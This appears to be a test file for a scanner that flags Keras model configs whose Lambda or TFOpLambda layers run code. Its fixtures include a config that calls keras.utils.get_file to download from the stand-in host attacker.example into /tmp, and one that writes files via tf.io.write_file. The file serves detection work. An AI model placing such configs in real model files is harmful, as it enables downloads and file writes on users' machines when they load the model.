import { ScanReport } from './report';
import { scanKerasConfig } from './keras';

function scan(layer: Record<string, unknown>) {
  const report = new ScanReport();
  scanKerasConfig(
    JSON.stringify({
      class_name: 'Functional',
      module: 'keras',
      config: { layers: [layer] },
    }),
    report,
    'config.json',
  );
  return report.findings;
}

describe('Keras layers that run code named in the config', () => {
  it('flags a Lambda named through its module, as Keras resolves "keras" + "layers.Lambda"', () => {
    const findings = scan({
      module: 'keras',
      class_name: 'layers.Lambda',
      config: {
        name: 'l',
        // keras.utils.get_file(origin, fname) downloads and writes a file
        function: {
          module: 'keras.utils',
          class_name: 'function',
          config: 'get_file',
        },
        arguments: { origin: 'http://attacker.example/x', fname: '/tmp/x' },
      },
    });
    expect(
      findings.some(
        f => f.rule === 'keras/lambda-layer' && f.severity === 'high',
      ),
    ).toBe(true);
  });

  it('flags a TFOpLambda calling a TensorFlow function outside math and array ops (tf.io.write_file writes files)', () => {
    const findings = scan({
      module: 'keras.layers',
      class_name: 'TFOpLambda',
      config: { name: 'w', function: 'io.write_file', trainable: false },
    });
    expect(
      findings.some(
        f => f.rule === 'keras/lambda-layer' && f.severity === 'high',
      ),
    ).toBe(true);
  });

  it('leaves a TFOpLambda doing arithmetic (what tf.keras writes for x + 1) unflagged', () => {
    const findings = scan({
      module: 'keras.layers',
      class_name: 'TFOpLambda',
      config: { name: 'add', function: 'math.add', trainable: false },
    });
    expect(findings.filter(f => f.severity !== 'low')).toEqual([]);
  });
});
